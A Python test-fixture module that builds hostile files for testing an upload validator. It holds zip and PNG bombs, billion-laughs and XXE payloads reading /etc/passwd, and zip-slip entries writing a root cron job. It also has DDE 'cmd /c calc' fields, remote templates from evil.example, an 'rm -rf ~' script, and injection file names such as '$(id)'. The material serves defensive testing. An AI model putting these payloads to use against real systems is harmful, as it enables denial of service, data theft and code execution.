"""Files that should never be taken, made afresh by code: `HOSTILE[name](folder)` makes one and gives its path.

The same bytes each time. `FILE_NAMES` are names that break systems; what is in files of those names is harmless.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
from PIL import Image

Maker = Callable[[Path], Path]
HOSTILE: dict[str, Maker] = {}

LONG_AGO = (2026, 1, 1, 0, 0, 0)
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(52) + struct.pack("<L", 128) + bytes(64) + b"PE\0\0\x4c\x01" + bytes(300)
PAGE = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
GROWING = "".join(f'<!ENTITY lol{n + 1} "{f"&lol{n};" * 10}">' for n in range(9))
LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{GROWING}]>'


def hostile(name: str, file: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Put what a function makes into `HOSTILE`, as a file of that name."""

    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        def write(folder: Path) -> Path:
            path = folder / file
            path.write_bytes(make())
            return path

        HOSTILE[name] = write
        return make

    return keep


# --- What honest files are made of
def zipped(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(entry(name, method), content)
    return made.getvalue()


def entry(name: str, method: int = zipfile.ZIP_DEFLATED, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, LONG_AGO)
    info.compress_type, info.external_attr, info.create_system = method, mode << 16, 3
    return info


def relations(*lines: tuple[str, str, str]) -> str:
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}"{mode and f" TargetMode={mode!r}"}/>'
        for n, (kind, target, mode) in enumerate(lines)
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def types(main: str, kind: str, *others: tuple[str, str]) -> str:
    inner = "".join(f'<Override PartName="/{part}" ContentType="{each}"/>' for part, each in ((main, kind), *others))
    return (
        f'{XML}<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="bin" ContentType="application/octet-stream"/>{inner}</Types>'
    )


def document(body: str = "<w:p><w:r><w:t>Minutes</w:t></w:r></w:p>", before: str = "") -> str:
    return f'{XML}{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'


def docx(others: dict[str, bytes | str] | None = None, kind: str = f"{OFFICE_TYPE}.wordprocessingml.document") -> bytes:
    return zipped(docx_parts(kind) | (others or {}))


def docx_parts(kind: str = f"{OFFICE_TYPE}.wordprocessingml.document") -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": types("word/document.xml", f"{kind}.main+xml"),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": document(),
    }


def xlsx(others: dict[str, bytes | str] | None = None, kind: str = f"{OFFICE_TYPE}.spreadsheetml.sheet") -> bytes:
    sheet = (
        f'{XML}<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types("xl/workbook.xml", f"{kind}.main+xml"),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'{XML}<workbook xmlns="{SHEET}"><sheets/></workbook>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    return zipped(parts | (others or {}))


def odt(content: str = "", before: str = "", others: dict[str, bytes | str] | None = None) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns"
    spaces = " ".join(f'xmlns:{name}="{office}:{name}:1.0"' for name in ("office", "text", "draw", "script"))
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(entry("mimetype", zipfile.ZIP_STORED), "application/vnd.oasis.opendocument.text")
        parts: dict[str, bytes | str] = {
            "content.xml": f"{XML}{before}<office:document-content {spaces}><office:body><office:text>{content}"
            "</office:text></office:body></office:document-content>",
            "META-INF/manifest.xml": f'{XML}<m:manifest xmlns:m="{office}:manifest:1.0"/>',
        }
        for name, part in (parts | (others or {})).items():
            archive.writestr(entry(name), part)
    return made.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    written = io.BytesIO()
    made.save(written, deterministic_id=True)
    return written.getvalue()


def picture(kind: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    made = io.BytesIO()
    image = Image.new("RGB", size, (0, 94, 184))
    image.putdata([(x * 7 % 256, x * 13 % 256, x * 29 % 256) for x in range(size[0] * size[1])])
    image.save(made, kind, **options)
    return made.getvalue()


# --- Hardly a file
hostile("zero bytes", "nothing.pdf")(lambda: b"")
hostile("one byte", "one.pdf")(lambda: b"%")
hostile("truncated pdf", "half.pdf")(lambda: (whole := pdf(fill))[: len(whole) // 2])
hostile("truncated jpeg", "half.jpg")(lambda: picture("JPEG", (400, 300))[:-500])
hostile("truncated png", "half.png")(lambda: picture("PNG", (400, 300))[:-500])
hostile("truncated docx", "half.docx")(lambda: (whole := docx())[: len(whole) * 2 // 3])
hostile("noise named pdf", "noise.pdf")(lambda: zlib.compress(bytes(range(256)) * 64)[2:] * 3)
hostile("zeros named txt", "zeros.txt")(lambda: bytes(5000))


def fill(made: pikepdf.Pdf) -> None:
    for _ in range(20):
        made.add_blank_page()


# --- Named as something else
hostile("program named pdf", "letter.pdf")(lambda: PROGRAM)
hostile("linux program named png", "scan.png")(lambda: b"\x7fELF\x02\x01\x01" + bytes(200))
hostile("script named txt", "notes.txt")(lambda: b"#!/bin/sh\nrm -rf ~\n")
hostile("program", "setup.exe")(lambda: PROGRAM)
hostile("program with two endings", "report.pdf.exe")(lambda: PROGRAM)
hostile("shortcut named pdf", "link.pdf")(lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100))
hostile("pdf named png", "scan.png")(lambda: pdf())
hostile("html named txt", "notes.txt")(lambda: PAGE)
hostile("html behind a comment named txt", "notes.txt")(lambda: b"\xef\xbb\xbf <!-- notes -->\n" + PAGE)
hostile("html in utf-16 named txt", "notes.txt")(lambda: PAGE.decode().encode("utf-16"))
hostile("html named csv", "table.csv")(lambda: PAGE)
hostile("html named md", "notes.md")(lambda: PAGE)
hostile("html named pdf", "page.pdf")(lambda: PAGE)
hostile("html named doc", "letter.doc")(lambda: PAGE)
hostile("html", "page.html")(lambda: PAGE)
hostile("svg named png", "map.png")(lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
hostile("svg", "map.svg")(lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
hostile("svg with growing entities", "map.svg")(lambda: f"{XML}{LAUGHS}<svg>&lol9;</svg>".encode())
hostile("xml with growing entities", "table.xml")(lambda: f"{XML}{LAUGHS}<lolz>&lol9;</lolz>".encode())
hostile("xml with growing entities named csv", "table.csv")(lambda: f"{XML}{LAUGHS}<lolz>&lol9;</lolz>".encode())
hostile("macro document named docx", "letter.docx")(
    lambda: docx({"word/vbaProject.bin": b"macros"}, "application/vnd.ms-word.document.macroEnabled")
)

# --- Two files in one
hostile("pdf and zip", "report.pdf")(lambda: pdf() + zipped({"payload.exe": PROGRAM}))
hostile("pdf behind a program", "report.pdf")(lambda: b"MZ" + b"A" * 98 + pdf())
hostile("pdf behind a page", "report.pdf")(lambda: PAGE + b"\n" + pdf())
hostile("pdf with a program behind", "report.pdf")(lambda: pdf() + PROGRAM)
hostile("gif and jar", "badge.gif")(
    lambda: (
        picture("GIF") + zipped({"META-INF/MANIFEST.MF": "Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe" + bytes(60)})
    )
)
hostile("png and html", "map.png")(lambda: picture("PNG") + PAGE)
hostile("png with html inside", "map.png")(lambda: with_comment(picture("PNG"), b"Comment\0" + PAGE))
hostile("jpeg and rar", "photo.jpg")(lambda: picture("JPEG") + b"Rar!\x1a\x07\x01\0" + bytes(60))
hostile("jpeg and program", "photo.jpg")(lambda: picture("JPEG") + PROGRAM)
hostile("jpeg and zip", "photo.jpg")(lambda: picture("JPEG") + zipped({"a.docm": b"x" * 500}) + b"\n" * 20)
hostile("docx behind an empty line", "letter.docx")(lambda: b"\n" + docx())
hostile("docx behind a page", "letter.docx")(lambda: PAGE + docx())
hostile("docx and pdf", "letter.docx")(lambda: zipped({"a.pdf": pdf()}, zipfile.ZIP_STORED)[:-22] + docx())
hostile("docx and program", "letter.docx")(lambda: docx() + PROGRAM)


def with_comment(png: bytes, text: bytes) -> bytes:
    at = png.index(b"IDAT") - 4
    return png[:at] + png_chunk(b"tEXt", text) + png[at:]


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


# --- More than it seems
@hostile("png of 900 million pixels", "poster.png")
def _() -> bytes:
    side = 30_000
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(side // 8 + 1)) for _ in range(side)) + packer.flush()
    header = struct.pack(">LLBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


@hostile("gif of too many frames", "moving.gif")
def _() -> bytes:
    first = picture("GIF", (8, 8))
    start = first.index(b"\x2c\0\0\0\0")
    return first[:start] + first[start:-1] * 600 + b";"


def gigabyte(name: str = "big.xml") -> bytes:
    """A ZIP of a megabyte that unpacks to a gigabyte."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(entry(name), "w") as big:
        for _ in range(1024):
            big.write(bytes(2**20))
    return made.getvalue()


@cache
def with_gigabyte() -> bytes:
    """A Word document with that gigabyte in it."""
    made = io.BytesIO(docx())
    part = entry("word/media/big.bin")
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(part, "w") as big:
        for _ in range(1024):
            big.write(bytes(2**20))
    return made.getvalue()


hostile("a gigabyte in a zip", "evidence.zip")(gigabyte)
hostile("a gigabyte in a docx", "letter.docx")(with_gigabyte)
hostile("a gigabyte in a docx that says it is small", "letter.docx")(
    lambda: with_gigabyte().replace(struct.pack("<L", 2**30), struct.pack("<L", 1024))
)
hostile("zips in zips", "evidence.zip")(lambda: nested(6))
hostile("zips in zips in a docx", "letter.docx")(lambda: docx({"word/embeddings/a.zip": nested(6)}))
hostile("documents in documents in documents", "letter.docx")(lambda: documents_in_documents(5))
hostile("eleven thousand parts", "letter.docx")(
    lambda: docx({f"word/media/{n}.bin": b"" for n in range(11_000)}),
)


def nested(depth: int) -> bytes:
    made = b"payload"
    for level in range(depth):
        made = zipped({f"{name}{level}.zip": made for name in "ab"})
    return made


def documents_in_documents(depth: int) -> bytes:
    made = docx()
    for _ in range(depth):
        made = docx({"word/embeddings/inner.docx": made})
    return made


@hostile("a part that is not in the list", "letter.docx")
def _() -> bytes:
    made = zipped(docx_parts() | {"word/hidden.bin": PROGRAM, "word/last.xml": "<a/>"})
    at = made.rindex(b"PK\x01\x02", 0, made.rindex(b"PK\x01\x02"))
    after = made.rindex(b"PK\x01\x02")
    end = made.rindex(b"PK\x05\x06")
    _, _, _, here, count, size, start, _ = struct.unpack_from("<4s4H2LH", made, end)
    closing = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, here - 1, count - 1, size - (after - at), start, 0)
    return made[:at] + made[after:end] + closing


def overlapping(count: int, size: int) -> bytes:
    """Many entries of the list share the bytes of one, as the smallest zip bombs do."""
    made = io.BytesIO(docx({"word/media/a.bin": bytes(size)}))
    with zipfile.ZipFile(made, "a") as archive:
        shared = archive.getinfo("word/media/a.bin")
        for n in range(count):
            copy = entry(f"word/media/{n}.bin")
            copy.header_offset, copy.CRC = shared.header_offset, shared.CRC
            copy.compress_size, copy.file_size = shared.compress_size, shared.file_size
            archive.filelist.append(copy)
        archive.comment = b""
    return made.getvalue()


hostile("two hundred parts over one another", "letter.docx")(lambda: overlapping(200, 5_000_000))
hostile("two parts over one another", "letter.docx")(lambda: overlapping(1, 5_000))


@hostile("a part that is not what it was", "letter.docx")
def _() -> bytes:
    made = bytearray(zipped(docx_parts() | {"word/media/a.bin": bytes(range(256)) * 2000}, zipfile.ZIP_STORED))
    made[-10_000] ^= 1
    return bytes(made)


hostile("docx of a hundred thousand levels", "letter.docx")(
    lambda: docx({"word/document.xml": document("<w:p>" * 100_000 + "</w:p>" * 100_000)})
)


# --- Names inside
hostile("zip with ../ in it", "evidence.zip")(lambda: zipped({"../../etc/cron.d/job": "* * * * * root sh"}))
hostile("docx with ../ in it", "letter.docx")(lambda: docx({"word/../../../job": "* * * * * root sh"}))
hostile("docx with an absolute name in it", "letter.docx")(lambda: docx({"/etc/passwd": "root"}))
hostile("docx with backslashes in it", "letter.docx")(lambda: docx({"..\\..\\startup.bat": "calc"}))
hostile("two parts of one name", "letter.docx")(lambda: docx({"WORD/document.xml": document()}))


@hostile("zip with a link in it", "evidence.zip")
def _() -> bytes:
    return with_link(zipped({"a.txt": "a"}))


@hostile("docx with a link in it", "letter.docx")
def _() -> bytes:
    return with_link(docx())


def with_link(archive: bytes) -> bytes:
    made = io.BytesIO(archive)
    with zipfile.ZipFile(made, "a") as opened:
        opened.writestr(entry("word/link.xml", mode=0o120777), "/etc/passwd")
    return made.getvalue()


@hostile("encrypted zip parts", "letter.docx")
def _() -> bytes:
    made = bytearray(docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := made.find(sign, place + 1)) >= 0:
            made[place + at] |= 1
    return bytes(made)


# --- Office files that do things
hostile("docx with growing entities", "letter.docx")(
    lambda: docx({"word/document.xml": document("&lol9;", before=LAUGHS)})
)
hostile("docx that reads a file", "letter.docx")(
    lambda: docx({"word/document.xml": document("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')})
)
hostile("xlsx with growing entities", "table.xlsx")(
    lambda: xlsx({"xl/sharedStrings.xml": f'{XML}{LAUGHS}<sst xmlns="{SHEET}"><si><t>&lol9;</t></si></sst>'})
)
hostile("odt with growing entities", "letter.odt")(lambda: odt("&lol9;", before=LAUGHS))
hostile("docx with growing entities in utf-16", "letter.docx")(
    lambda: docx({"word/document.xml": document("&lol9;", LAUGHS).replace("UTF-8", "UTF-16").encode("utf-16")})
)
hostile("docx with macros", "letter.docx")(lambda: docx({"word/vbaProject.bin": b"macros"}))
hostile("xlsm with macros", "table.xlsm")(
    lambda: xlsx({"xl/vbaProject.bin": b"macros"}, "application/vnd.ms-excel.sheet.macroEnabled")
)
hostile("xlsx with old macros", "table.xlsx")(
    lambda: xlsx({"xl/macrosheets/sheet1.xml": f'{XML}<xm:macrosheet xmlns:xm="{SHEET}"/>'})
)
hostile("odt with macros", "letter.odt")(lambda: odt(others={"Basic/Standard/Module1.xml": "<m/>"}))
hostile("odt with an event", "letter.odt")(
    lambda: odt('<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Python"/>')
)
hostile("docx with a template from the web", "letter.docx")(
    lambda: docx(
        {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/a.dotm", "External"))}
    )
)
hostile("docx with a template from a foreign server", "letter.docx")(
    lambda: docx(
        {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "file://///203.0.113.9/a.dotm", "External"))}
    )
)
hostile("docx with a picture from the web", "letter.docx")(
    lambda: docx({"word/_rels/document.xml.rels": relations(("image", "http://evil.example/pixel.png", "External"))})
)
hostile("docx with a linked object", "letter.docx")(
    lambda: docx({"word/_rels/document.xml.rels": relations(("oleObject", "http://evil.example/a.hta", "External"))})
)
hostile("xlsx with an external link", "table.xlsx")(
    lambda: xlsx(
        {
            "xl/externalLinks/externalLink1.xml": f'{XML}<externalLink xmlns="{SHEET}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("externalLinkPath", "https://evil.example/a.xlsx", "External")
            ),
        }
    )
)
hostile("xlsx with dde", "table.xlsx")(
    lambda: xlsx(
        {
            "xl/externalLinks/externalLink1.xml": f'{XML}<externalLink xmlns="{SHEET}">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        }
    )
)
hostile("docx with dde", "letter.docx")(
    lambda: docx(
        {
            "word/document.xml": document(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
                '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        }
    )
)
hostile("csv with dde", "table.csv")(lambda: b"name,waits\nA,=cmd|'/C calc'!A0\n")
hostile("docx with a control", "letter.docx")(lambda: docx({"word/activeX/activeX1.xml": "<ocx/>"}))
hostile("docx with a program inside", "letter.docx")(lambda: docx({"word/embeddings/oleObject1.bin": PROGRAM}))
hostile("docx with a page inside", "letter.docx")(lambda: docx({"word/afchunk.htm": PAGE}))
hostile("odt with a picture from the web", "letter.odt")(
    lambda: odt('<draw:frame><draw:image xlink:href="http://evil.example/pixel.png"/></draw:frame>')
)
hostile("odt with dde", "letter.odt")(
    lambda: odt('<text:section><office:dde-source office:dde-application="soffice"/></text:section>')
)
hostile("rtf with an object", "letter.rtf")(lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}")
hostile("rtf with dde", "letter.rtf")(
    lambda: rb'{\rtf1{\field{\*\fldinst {DDEAUTO c:\\cmd.exe "/k calc"}}{\fldrslt x}}}'
)
hostile("rtf with a template from the web", "letter.rtf")(lambda: rb"{\rtf1{\*\template http://evil.example/a.dotm}x}")
hostile("old word document", "letter.doc")(lambda: ole("WordDocument"))
hostile("word document with a password", "letter.docx")(lambda: ole("EncryptedPackage"))
hostile("e-mail with a program", "message.eml")(
    lambda: (
        b"From: a@example.org\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: application/pdf; name="invoice.pdf.exe"\r\n'
        b'Content-Disposition: attachment; filename="invoice.pdf.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        b"TVqQAAMA\r\n"
    )
)


def ole(stream: str) -> bytes:
    """The smallest file in Microsoft's older container: a header, a table of sectors, a directory, one stream."""
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<9L", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109L", 0, *[free] * 108)
    sectors = struct.pack("<128L", fat_sector, end, *range(3, 10), end, *[free] * 118)
    named = [("Root Entry", 5, 1, end, 0), (stream, 2, free, 2, 4096)]
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HBB3L36xLQ", len(name) * 2 + 2, kind, 1, free, free, child, start, size)
        for name, kind, child, start, size in named
    )
    return header + sectors + entries.ljust(512, b"\0") + bytes(4096)


# --- PDFs that do things
def acting(**action: Any) -> bytes:
    return pdf(lambda made: made.Root.__setitem__("/OpenAction", made.make_indirect(pikepdf.Dictionary(**action))))


hostile("pdf with a script", "report.pdf")(lambda: acting(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
hostile("pdf that starts a program", "report.pdf")(lambda: acting(S=pikepdf.Name.Launch, F="cmd.exe"))
hostile("pdf that opens a page", "report.pdf")(lambda: acting(S=pikepdf.Name.URI, URI="http://evil.example/"))
hostile("pdf that sends a form", "report.pdf")(lambda: acting(S=pikepdf.Name.SubmitForm, F="http://evil.example/"))


@hostile("pdf with a script under a second action", "report.pdf")
def _() -> bytes:
    then = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    return acting(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=then)


@hostile("pdf with scripts by name", "report.pdf")
def _() -> bytes:
    script = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["a", script]))
    return pdf(lambda made: made.Root.__setitem__("/Names", pikepdf.Dictionary(JavaScript=tree)))


@hostile("pdf with a script on a link", "report.pdf")
def _() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].Annots = pikepdf.Array([link])

    return pdf(change).replace(b"/JavaScript", b"/J#61vaScript")


@hostile("pdf with a page that acts", "report.pdf")
def _() -> bytes:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example/")
    return pdf(lambda made: made.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=action)))


@hostile("pdf with an attachment", "report.pdf")
def _() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["payload.exe"] = pikepdf.AttachedFileSpec(
            made, PROGRAM, filename="payload.exe", creation_date="", mod_date="", mime_type="", description=""
        )

    return pdf(change)


hostile("pdf that is an xfa form", "form.pdf")(
    lambda: pdf(
        lambda made: made.Root.__setitem__("/AcroForm", pikepdf.Dictionary(XFA="<xdp/>", Fields=pikepdf.Array()))
    )
)


@hostile("pdf with a film", "report.pdf")
def _() -> bytes:
    film = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    return pdf(lambda made: made.pages[0].obj.__setitem__("/Annots", pikepdf.Array([made.make_indirect(film)])))


@hostile("pdf with a password", "report.pdf")
def _() -> bytes:
    made, written = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.save(
        written,
        encryption=pikepdf.Encryption(owner="owner", user="user", R=3, aes=False, metadata=False),
        static_id=True,
    )
    return written.getvalue()


@hostile("pdf of an absurd size", "plan.pdf")
def _() -> bytes:
    return pdf(lambda made: made.pages[0].obj.__setitem__("/MediaBox", pikepdf.Array([0, 0, 9_000_000, 9_000_000])))


@hostile("pdf of too many pages", "book.pdf")
def _() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Pages.Kids = pikepdf.Array([made.pages[0].obj] * 6000)
        made.Root.Pages.Count = 6000

    return pdf(change)


@hostile("pdf of too many objects", "report.pdf")
def _() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Many = pikepdf.Array([made.make_indirect(pikepdf.Dictionary(A=n)) for n in range(200_000)])

    return pdf(change)


@hostile("pdf with a gigabyte of objects", "report.pdf")
def _() -> bytes:
    """A stream of objects that unpacks to a gigabyte, in which the catalogue is said to be."""
    packer = zlib.compressobj(9)
    packed = b"".join(
        packer.compress((b"1 0 << /Type /Catalog >>" if n == 0 else b"") + b" " * 2**20) for n in range(1024)
    )
    packed += packer.flush()
    made = b"%PDF-1.7\n"
    stream = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    made += stream + packed + b"\nendstream\nendobj\n"
    start = len(made)
    cross = struct.pack(">BLB", 0, 0, 0) + struct.pack(">BLB", 2, 2, 0) + struct.pack(">BLB", 1, 9, 0)
    cross += struct.pack(">BLB", 1, start, 0)
    made += b"3 0 obj\n<< /Type /XRef /W [1 4 1] /Size 4 /Root 1 0 R /Length %d >>\nstream\n" % len(cross) + cross
    return made + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


@hostile("pdf without pages", "empty.pdf")
def _() -> bytes:
    return pdf(lambda made: made.pages.__delitem__(0))


# --- Names of files
FILE_NAMES: list[str] = [
    # Characters that end a line, a string or a header, or ring a bell
    *("line\nbreak.txt", "carriage\rreturn.txt", "tab\there.txt", "bell\x07.txt", "escape\x1b[31mred.txt"),
    *("delete\x7f.txt", "nul\x00byte.txt", "next\x85line.txt", "line\u2028separator.txt", "\x01.txt"),
    # Characters that are not seen, or turn the others round
    *("evidence\u202efdp.txt", "\u2066isolated\u2069.txt", "zero\u200bwidth.txt", "\ufeffmark.txt"),
    "soft\u00adhyphen.txt",
    # Names that mean something to a system
    *("CON.txt", "nul.txt", "LPT1.txt", "COM9.txt", "desktop.ini.txt", ".htaccess.txt", "-rf.txt", "$(id).txt"),
    # 255 characters that are 255 and that are 600 bytes, and more
    *("a" * 251 + ".txt", "語" * 94 + "é" * 157 + ".txt", "x." + "y" * 200 + ".txt", "notes." + "long" * 40),
    # Dots and blanks
    *("trailing dots....txt", "notes.txt.", "notes.txt   ", "  leading.txt", "...", "..", ". .txt"),
    # Marks that end a string in a header, a page, a shell or a database
    *('say "this".txt', "it's.txt", "semi;colon.txt", "percent%0d%0aSet-Cookie: a=b.txt"),
    *("amp&ersand<b>.txt", "a,b|c*d?.txt"),
    # Ways to elsewhere
    *("../../etc/passwd.txt", "..\\..\\boot.txt", "/etc/passwd.txt", "C:\\notes.txt"),
    # Other scripts, marks that pile up, pictures
    *("🫀 heart clinic.txt", "cafe\u0301.txt", "Z͑ͫ̓a̴̵l̶g̷o̸.txt", "مرحبا.txt", "नमस्ते.txt"),
    # Too few endings, and too many
    *("no ending", "notes.pdf.txt"),
]  # fmt: skip
